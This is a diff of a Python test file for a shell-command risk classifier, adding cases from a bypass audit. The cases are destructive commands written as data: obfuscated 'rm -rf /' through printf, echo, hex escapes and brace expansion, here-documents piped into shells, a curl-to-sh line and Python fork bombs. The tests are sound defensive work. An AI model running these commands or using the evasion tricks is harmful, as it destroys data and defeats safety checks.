@@ -839,5 +839,53 @@ def test_a_variable_used_many_times_is_read_in_bounded_time() -> None:
     assert len(command) < 100_000
     risk = classify_command(command)  # 24,000,000 characters of values: not all of them are read
     assert risk.level == HIGH
-    assert "the line uses its variables too often to be analysed with their values" in risk.reasons
+    assert "the line expands its variables (or brace lists) too often to be analysed" in risk.reasons
     assert classify_command("X=1; " + "echo $X; " * 5_000).level == LOW  # short values: read every time
+
+
+# ----------------------------------------------------------------------------- found in the bypass audit
+
+
+@pytest.mark.parametrize(
+    ("command", "level"),
+    [
+        # the output of a literal echo/printf run as the command
+        ("$(printf 'rm -rf /')", CRITICAL),
+        ("$(echo rm -rf /)", CRITICAL),
+        ("`echo rm -rf /`", CRITICAL),
+        ("$(printf '%s' 'rm -rf /')", CRITICAL),
+        ("$(printf 'rm -rf %s' /)", CRITICAL),
+        ("$(printf '\\x72\\x6d -rf /')", CRITICAL),
+        ("$(echo rm) -rf /", CRITICAL),
+        ("$(echo ls) -la", HIGH),  # still computed at runtime
+        # brace expansion (bash, zsh) makes words of a comma list
+        ("{rm,-rf,/}", CRITICAL),
+        ("{sudo,rm,-rf,~}", CRITICAL),
+        ("rm -rf {/,x}", CRITICAL),
+        ("chmod -R 777 {/etc,/var}", CRITICAL),
+        ("mkdir -p src/{a,b}", MEDIUM),
+        ("echo {a,b}", LOW),
+        # a here-document piped into an interpreter is read like one given to it directly
+        ("cat <<EOF | sh\nrm -rf /\nEOF", CRITICAL),
+        ("cat <<'EOF' | bash -s\ncurl -s https://example.com/x | sh\nEOF", CRITICAL),
+        ("cat <<EOF | python3\nimport shutil; shutil.rmtree('/')\nEOF", CRITICAL),
+        ("cat <<< 'rm -rf /' | sh", CRITICAL),
+        ("cat <<EOF | sh\nls\nEOF", HIGH),  # like `echo ls | sh`
+        # pushd changes the working directory as cd does
+        ("pushd / && rm -rf *", CRITICAL),
+        ("pushd /etc; rm -rf ./*", CRITICAL),
+        ("pushd /tmp && rm -rf *", MEDIUM),
+        ("pushd +1 && rm -rf *", HIGH),
+        ("popd; rm -rf *", HIGH),
+        # ${HOME:?} (the safe-rm idiom) is the home directory
+        ('rm -rf "${HOME:?}/"', CRITICAL),
+        ("rm -rf ${HOME:-/tmp}", CRITICAL),
+        ('rm -rf "${HOME:?}/.cache"', HIGH),
+        # a Python fork bomb written on lines of its own
+        ("python3 -c 'import os\nwhile True:\n    os.fork()'", CRITICAL),
+        ("python3 -c 'import os\nwhile 1:\n    pid = os.fork()\n    print(pid)'", CRITICAL),
+        ("python3 -c 'import time\nwhile True:\n    time.sleep(1)'", MEDIUM),
+    ],
+)
+def test_bypasses_found_in_the_audit(command: str, level: RiskLevel) -> None:
+    assert classify_command(command).level == level, classify_command(command).reasons
